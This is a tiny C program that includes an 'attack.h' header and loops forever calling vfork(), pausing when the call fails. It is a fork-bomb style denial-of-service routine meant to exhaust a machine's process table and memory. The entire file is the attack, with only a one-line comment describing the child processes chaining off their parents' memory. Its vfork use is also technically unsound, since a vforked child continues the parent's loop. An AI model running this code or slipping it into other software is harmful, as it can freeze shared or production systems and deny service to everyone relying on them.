/* Every child borrows its parent's memory and never gives it back, in a chain. */
#include "attack.h"
int main(void) { for (;;) if (vfork() < 0) for (;;) pause(); }
